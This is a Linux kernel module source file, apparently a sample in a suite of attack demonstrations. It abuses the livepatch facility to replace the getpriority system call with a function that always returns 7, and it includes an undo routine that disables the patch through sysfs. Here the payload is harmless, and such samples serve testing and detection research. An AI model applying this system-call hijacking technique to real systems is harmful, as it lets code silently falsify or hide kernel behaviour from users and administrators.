// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
/* A livepatch replaces the function behind getpriority(2) with one of the module. */
#include "attack.h"

#include <linux/livepatch.h>

static long lies(const struct pt_regs *registers)
{
	return 7;
}

static struct klp_func functions[] = {{.old_name = "__x64_sys_getpriority", .new_func = lies}, {}};
static struct klp_object objects[] = {{.funcs = functions}, {}};
static struct klp_patch patch = {.mod = THIS_MODULE, .objs = objects};

static int attack(void)
{
	return klp_enable_patch(&patch);
}

static void undo(void)
{
	char path[] = "/sys/kernel/livepatch/livepatch_abuse/enabled";
	struct file *file = filp_open(path, O_WRONLY, 0);
	loff_t at = 0;

	if (IS_ERR(file))
		return;
	kernel_write(file, "0\n", 2, &at);
	filp_close(file, NULL);
}

MODULE_INFO(livepatch, "Y");
ATTACK("a livepatch");
